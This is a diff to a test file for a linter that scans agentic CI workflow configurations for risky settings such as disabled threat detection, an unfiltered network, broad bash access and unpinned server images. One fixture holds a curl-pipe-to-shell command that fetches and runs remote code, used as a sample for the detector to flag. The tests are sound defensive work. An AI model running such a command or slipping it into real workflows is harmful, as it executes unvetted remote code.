@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { it } from 'node:test';
-import { reportOn } from '../../rules/testing.ts';
+import { findingsOf, reportOn } from '../../rules/testing.ts';
 import { readSample } from '../testing.ts';
 
 const samples = {
@@ -58,18 +58,60 @@ it('reads a fetch tool as open only where no firewall limits it', () => {
   assert.ok(found({ tools, sandbox: { agent: false } }).includes(open[0] ?? ''));
 });
 
-it('reads whether threats in outputs are detected', () => {
-  const at = '/safe-outputs/threat-detection';
-  const outputs = (detection: unknown) =>
-    found({ 'safe-outputs': { 'add-comment': null, 'threat-detection': detection } });
-  assert.deepEqual(outputs(false), [`AG-003 medium ${at}`]);
-  assert.deepEqual(outputs({ enabled: false }), [`AG-003 medium ${at}/enabled`]);
-  for (const on of [true, { enabled: true }, { prompt: 'Look for secrets.' }]) assert.deepEqual(outputs(on), []);
-});
-
 it('runs commands in a sandbox unless it is off', () => {
   const tools = { bash: true };
   assert.deepEqual(found({ tools }), ['AG-002 high /tools/bash']);
   assert.deepEqual(found({ tools, sandbox: { agent: 'awf' } }), ['AG-002 high /tools/bash']);
   assert.ok(found({ tools, sandbox: { agent: false } }).includes('AG-002 critical /tools/bash'));
+});
+
+const textOfWorkflow = 'on: {issues: {types: [opened]}}\nengine: copilot\nsafe-outputs: {create-issue: null}\n';
+
+it('reads whether the output is checked and the network filtered', () => {
+  const found = (text: string) =>
+    (['AG-003', 'AG-013'] as const).flatMap((rule) =>
+      findingsOf(rule, textOfWorkflow.replace('safe-outputs: {create-issue: null}\n', text), 'yaml').map(
+        ({ pointer, severity }) => `${rule} ${pointer} ${severity}`,
+      ),
+    );
+  const detection = (value: string) => found(`safe-outputs: {create-issue: null, threat-detection: ${value}}\n`);
+  assert.deepEqual(detection('false'), ['AG-003 /safe-outputs/threat-detection medium']);
+  assert.deepEqual(detection('{enabled: false}'), ['AG-003 /safe-outputs/threat-detection/enabled medium']);
+  assert.deepEqual(detection('true'), []);
+  assert.deepEqual(detection('{engine: copilot, max-ai-credits: 50}'), []);
+  const network = (value: string) => found(`safe-outputs: {create-issue: null}\nnetwork: ${value}\n`);
+  assert.deepEqual(
+    network('{allowed: [defaults], firewall: disable}').map((line) => line.replace(/ \w+$/, '')),
+    ['AG-013 /network/firewall'],
+  );
+  assert.deepEqual(network('{allowed: [defaults], firewall: {log-level: debug}}'), []);
+});
+
+it('reads the steps and jobs before the agent', () => {
+  const fetched = 'curl -s https://get.example.net/s | sh';
+  const found = (text: string) => findingsOf('AG-004', textOfWorkflow + text, 'yaml').map(({ pointer }) => pointer);
+  assert.deepEqual(found(`pre-steps: [{run: "${fetched}"}]`), ['/pre-steps/0/run']);
+  assert.deepEqual(found(`pre-agent-steps: [{run: "${fetched}"}]`), ['/pre-agent-steps/0/run']);
+  assert.deepEqual(found(`jobs: {fill: {runs-on: x, steps: [{run: "${fetched}"}]}}`), ['/jobs/fill/steps/0/run']);
+  assert.deepEqual(found('jobs: {fill: {runs-on: x, steps: [{run: npm ci}]}}'), []);
+  assert.equal(reportOn(`${textOfWorkflow}jobs: {fill: {steps: []}}`, 'yaml').format.id, 'gh-aw');
+});
+
+it('an empty value of `bash` allows harmless commands only', () => {
+  const found = (bash: string) =>
+    findingsOf('AG-002', `${textOfWorkflow}tools: {bash: ${bash}, timeout: 60}`, 'yaml').length;
+  assert.equal(found('true'), 1);
+  assert.equal(found('["*"]'), 1);
+  for (const harmless of ['null', '[]', 'false', '["git status"]']) assert.equal(found(harmless), 0, harmless);
+});
+
+it('reads the tools and the image of servers', () => {
+  const text = `${textOfWorkflow}mcp-servers: {desk: {container: acme/desk, allowed: ["*"]}, shelf: {container: "acme/shelf:1.2", allowed: [get_note]}}`;
+  const { facts, unread } = readSample(text, 'yaml');
+  assert.deepEqual(unread, []);
+  assert.ok(facts.some((fact) => fact.includes('/mcp-servers/desk/allowed/0')));
+  assert.deepEqual(
+    findingsOf('AG-008', text, 'yaml').map(({ pointer, severity }) => `${pointer} ${severity}`),
+    ['/mcp-servers/desk/container medium', '/mcp-servers/shelf/container low'],
+  );
 });
